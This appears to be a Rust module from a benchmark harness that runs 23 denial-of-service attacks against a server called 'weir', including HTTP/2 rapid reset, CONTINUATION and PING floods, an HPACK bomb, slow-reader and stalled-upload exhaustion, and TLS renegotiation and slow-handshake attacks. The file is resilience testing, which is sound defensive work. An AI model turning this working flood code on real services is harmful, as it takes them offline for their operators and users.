//! The attacks.

use super::OPEN_MAX;
use super::attacker::Attacker;
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PAYLOAD_MAX, PING, PREFACE, PRIORITY,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, begin, frame, get, indexed_literal, literal, post,
};
use super::renegotiation;
use super::session::Session;
use std::time::{Duration, Instant};

/// One attack.
pub(super) struct Attack {
    pub(super) name: &'static str,
    /// What it does.
    pub(super) what: &'static str,
    /// Carries it out until the time is over.
    pub(super) run: fn(&mut Attacker),
}

/// What the time before an attack is measured beside: the attacker's share of the core of the other
/// clients is taken from them then, too.
pub(super) const NOTHING: Attack = of(
    "nothing",
    "the CPU time of an attacker, and no connection",
    |it| {
        while it.pace() {
            let begun = Instant::now();
            while begun.elapsed() < SPIN {
                std::hint::spin_loop();
            }
        }
    },
);

/// CPU time of an attacker between two looks at its share.
const SPIN: Duration = Duration::from_micros(500);

/// All of them, in the order of the table.
pub(super) const ATTACKS: [Attack; 23] = [
    of(
        "rapid-reset",
        "requests that are reset at once (CVE-2023-44487)",
        |it| flood(it, rapid_reset),
    ),
    of(
        "made-you-reset",
        "requests that weir is made to reset (CVE-2025-8671)",
        |it| flood(it, made_you_reset),
    ),
    of(
        "continuation",
        "a head of ever more CONTINUATION frames (CVE-2024-27316)",
        |it| flood(it, continuation),
    ),
    of("settings", "SETTINGS without end (CVE-2019-9515)", |it| {
        flood(it, |_| frame(SETTINGS, 0, 0, &[]))
    }),
    of("ping", "PING without end (CVE-2019-9512)", |it| {
        flood(it, |_| frame(PING, 0, 0, &[7; 8]))
    }),
    of(
        "ping-unread",
        "the same, and answers are never read",
        pings_unread,
    ),
    of("empty-data", "DATA without content (CVE-2019-9518)", |it| {
        flood(it, empty_data)
    }),
    of("window-updates", "WINDOW_UPDATE of one byte", |it| {
        flood(it, |_| frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()))
    }),
    of("priority", "PRIORITY without end (CVE-2019-9513)", |it| {
        flood(it, priority)
    }),
    of(
        "hpack-bomb",
        "heads that name a large entry of the table many times",
        |it| flood(it, hpack_bomb),
    ),
    of("fields", "heads of 125 fields of a byte each", |it| {
        flood(it, fields)
    }),
    of(
        "cookies",
        "heads of 1 500 crumbs of a cookie, of a byte each",
        |it| flood(it, cookies),
    ),
    of(
        "heads-held",
        "100 heads of 2 KiB a connection that name one entry, to a next hop that answers nothing",
        heads_held,
    ),
    of(
        "stopped",
        "2 000 responses from memory, of which nothing is read (CVE-2019-9517)",
        stopped,
    ),
    of(
        "stopped-hits",
        "2 000 responses of 16 KB from memory, of which nothing is read",
        |it| {
            let held = Held::open(it, CONNECTIONS, || {
                requests(0, get, STORED_SMALL, END_STREAM)
            });
            held.hold(it, &[]);
        },
    ),
    of(
        "stopped-fetches",
        "2 000 responses that are fetched, of which nothing is read",
        stopped_fetches,
    ),
    of(
        "slow-readers",
        "2 000 responses whose windows are opened byte by byte (CVE-2019-9511)",
        slow_readers,
    ),
    of(
        "stalled-uploads",
        "2 000 uploads to a next hop that reads nothing",
        stalled_uploads,
    ),
    of(
        "slow-preface",
        "connections that do not end their preface",
        |it| held(it, it.clear, &PREFACE[..10]),
    ),
    of(
        "tls-hello",
        "the ClientHello of another client, and the end",
        |it| {
            let hello = it.hello.clone();
            shots(it, &hello);
        },
    ),
    of(
        "renegotiation",
        "renegotiations of TLS 1.2 that the client asks for (CVE-2011-1473)",
        renegotiation::run,
    ),
    of("tls-garbage", "records that are none of TLS", |it| {
        shots(it, &[0x16; PAYLOAD_MAX]);
    }),
    of(
        "tls-slow",
        "connections that do not end their ClientHello",
        |it| {
            let half = it.hello[..it.hello.len() / 2].to_vec();
            held(it, it.tls, &half);
        },
    ),
];

/// Connections of an attack that has 2 000 streams.
const CONNECTIONS: usize = 20;

/// Streams of each.
const STREAMS: u32 = 100;

/// Frames, or requests, that are sent at once.
const BURST: u32 = 50;

/// A response that is stored before the attack, and one that never is; both are larger than any
/// window.
pub(super) const STORED: &str = "/hit/large?size=4000000";
/// One that is answered at once.
pub(super) const STORED_SMALL: &str = "/hit/small?size=16000";
const FETCHED: &str = "/large?size=20000000&store=no";

const fn of(name: &'static str, what: &'static str, run: fn(&mut Attacker)) -> Attack {
    Attack { name, what, run }
}

/// The attack of this name.
pub(super) fn find(name: &str) -> Option<&'static Attack> {
    let mut all = const { &ATTACKS }.iter().chain([&NOTHING]);
    all.find(|attack| attack.name == name)
}

/// All names.
pub(super) fn names() -> impl Iterator<Item = &'static str> {
    ATTACKS.iter().map(|attack| attack.name)
}

const fn stream(number: u32) -> u32 {
    2 * number + 1
}

/// Sends what `make` makes for each number, on one connection after the other.
fn flood(attacker: &mut Attacker, make: fn(u32) -> Vec<u8>) {
    attacker.report.open_max = 1;
    while attacker.pace() {
        let Some(mut session) = Session::open(attacker, attacker.clear) else {
            continue;
        };
        let mut numbers = 0..;
        let mut bytes = begin(None);
        while attacker.pace() {
            bytes.extend(numbers.by_ref().take(BURST as usize).flat_map(make));
            if !session.send(attacker, &bytes) {
                break;
            }
            bytes.clear();
        }
    }
}

fn rapid_reset(number: u32) -> Vec<u8> {
    let head = get("/private?size=1&store=no");
    let request = frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &head);
    let reset = frame(RST_STREAM, 0, stream(number), &8_u32.to_be_bytes());
    [request, reset].concat()
}

fn made_you_reset(number: u32) -> Vec<u8> {
    let head = get("/private?size=1&store=no");
    let request = frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &head);
    // a window larger than there may be one (RFC 9113 §6.9.1)
    let update = 0x7fff_ffff_u32.to_be_bytes();
    [request, frame(WINDOW_UPDATE, 0, stream(number), &update)].concat()
}

fn continuation(number: u32) -> Vec<u8> {
    match number {
        0 => frame(HEADERS, END_STREAM, 1, &get("/hit")),
        _ => frame(CONTINUATION, 0, 1, &literal("a", "")),
    }
}

fn empty_data(number: u32) -> Vec<u8> {
    match number {
        0 => frame(HEADERS, END_HEADERS, 1, &post("/stalled")),
        _ => frame(DATA, 0, 1, &[]),
    }
}

fn priority(number: u32) -> Vec<u8> {
    let [.., weight] = number.to_be_bytes();
    frame(PRIORITY, 0, stream(number % 1000), &[0, 0, 0, 0, weight])
}

/// The table has 4 096 bytes: one entry of nearly as many, 15 times in 64 KiB.
fn hpack_bomb(number: u32) -> Vec<u8> {
    let mut block = get("/hit/1k?size=1024");
    if number == 0 {
        block.extend(indexed_literal("a", &"a".repeat(4000)));
    }
    block.extend([0x80 | 62; 15]);
    frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &block)
}

/// `accept-encoding: gzip, deflate` of the static table.
fn fields(number: u32) -> Vec<u8> {
    let mut block = get("/hit/1k?size=1024");
    block.extend([0x80 | 16; 120]);
    frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &block)
}

/// `cookie` of the static table, with no value: 38 bytes each of 64 KiB.
fn cookies(number: u32) -> Vec<u8> {
    let mut block = get("/hit/1k?size=1024");
    block.extend([0x80 | 32; 1500]);
    frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &block)
}

/// Connections that are held, each begun by bytes of its number.
struct Held {
    sessions: Vec<Session>,
}

impl Held {
    /// Opens them.
    fn open(attacker: &mut Attacker, count: usize, mut first: impl FnMut() -> Vec<u8>) -> Self {
        let mut sessions = Vec::new();
        while sessions.len() < count && attacker.pace() {
            let Some(mut session) = Session::open(attacker, attacker.clear) else {
                continue;
            };
            session.send(attacker, &first());
            sessions.push(session);
            attacker.report.open_max = sessions.len() as u64;
        }
        Self { sessions }
    }

    /// Holds them until the time is over, and sends `more` again and again.
    fn hold(mut self, attacker: &mut Attacker, more: &[u8]) {
        while attacker.pace() {
            for session in &mut self.sessions {
                if session.is_open() {
                    session.send(attacker, more);
                }
            }
            attacker.rest();
        }
    }
}

fn requests(window: u32, method: fn(&str) -> Vec<u8>, path: &str, flags: u8) -> Vec<u8> {
    let mut bytes = begin(Some(window));
    for number in 0..STREAMS {
        bytes.extend(frame(
            HEADERS,
            END_HEADERS | flags,
            stream(number),
            &method(path),
        ));
    }
    bytes
}

fn heads_held(attacker: &mut Attacker) {
    let first = || {
        let mut bytes = begin(None);
        for number in 0..STREAMS {
            let mut block = get("/stalled");
            if number == 0 {
                block.extend(indexed_literal("a", &"a".repeat(2000)));
            }
            block.push(0x80 | 62);
            bytes.extend(frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                stream(number),
                &block,
            ));
        }
        bytes
    };
    Held::open(attacker, CONNECTIONS, first).hold(attacker, &[]);
}

fn stopped(attacker: &mut Attacker) {
    let held = Held::open(attacker, CONNECTIONS, || {
        requests(0, get, STORED, END_STREAM)
    });
    held.hold(attacker, &[]);
}

fn stopped_fetches(attacker: &mut Attacker) {
    let held = Held::open(attacker, CONNECTIONS, || {
        requests(0, get, FETCHED, END_STREAM)
    });
    held.hold(attacker, &[]);
}

fn slow_readers(attacker: &mut Attacker) {
    let held = Held::open(attacker, CONNECTIONS, || {
        requests(0, get, STORED, END_STREAM)
    });
    let updates = (0..STREAMS)
        .flat_map(|number| frame(WINDOW_UPDATE, 0, stream(number), &1_u32.to_be_bytes()));
    held.hold(attacker, &updates.collect::<Vec<u8>>());
}

fn stalled_uploads(attacker: &mut Attacker) {
    let held = Held::open(attacker, CONNECTIONS, || {
        let mut bytes = requests(65_535, post, "/stalled", 0);
        // the window of the connection, as RFC 9113 §6.9.2 has it until SETTINGS come
        for number in 0..4 {
            let content = vec![7; PAYLOAD_MAX - usize::from(number == 3)];
            bytes.extend(frame(DATA, 0, stream(number), &content));
        }
        bytes
    });
    held.hold(attacker, &[]);
}

/// Never reads: what is to be answered piles up at weir, or weir reads no more.
fn pings_unread(attacker: &mut Attacker) {
    attacker.report.open_max = 1;
    let pings = frame(PING, 0, 0, &[7; 8]).repeat(BURST as usize);
    while attacker.pace() {
        let Some(mut session) = Session::open(attacker, attacker.clear) else {
            continue;
        };
        let mut rest = begin(None);
        while session.is_open() && attacker.pace() {
            let sent = session.send_unread(attacker, &rest);
            rest.drain(..sent);
            if rest.is_empty() {
                rest.clone_from(&pings);
            }
        }
    }
}

/// One connection after the other, each with these bytes and no more.
fn shots(attacker: &mut Attacker, bytes: &[u8]) {
    attacker.report.open_max = 1;
    while attacker.pace() {
        if let Some(mut session) = Session::open(attacker, attacker.tls) {
            session.send(attacker, bytes);
        }
    }
}

/// Many connections with these bytes each, held; those that weir ends are opened again.
fn held(attacker: &mut Attacker, to: std::net::SocketAddr, bytes: &[u8]) {
    let mut sessions: Vec<Session> = Vec::new();
    while attacker.pace() {
        if sessions.len() < OPEN_MAX {
            if let Some(mut session) = Session::open(attacker, to) {
                session.send(attacker, bytes);
                sessions.push(session);
            }
        } else {
            sessions.retain_mut(|session| session.drain(attacker));
            attacker.rest();
        }
        let open = sessions.len() as u64;
        attacker.report.open_max = attacker.report.open_max.max(open);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use weir_bench::origin::ResponseSpec;

    #[test]
    fn names_are_unique() {
        let mut all: Vec<&str> = names().collect();
        all.sort_unstable();
        all.dedup();
        assert_eq!(all.len(), ATTACKS.len());
    }

    #[test]
    fn paths_describe_their_responses() {
        for (path, is_storable) in [(STORED, true), (STORED_SMALL, true), (FETCHED, false)] {
            let spec = ResponseSpec::parse(path).expect("a response");
            assert_eq!(spec.is_storable, is_storable, "{path}");
        }
    }
}
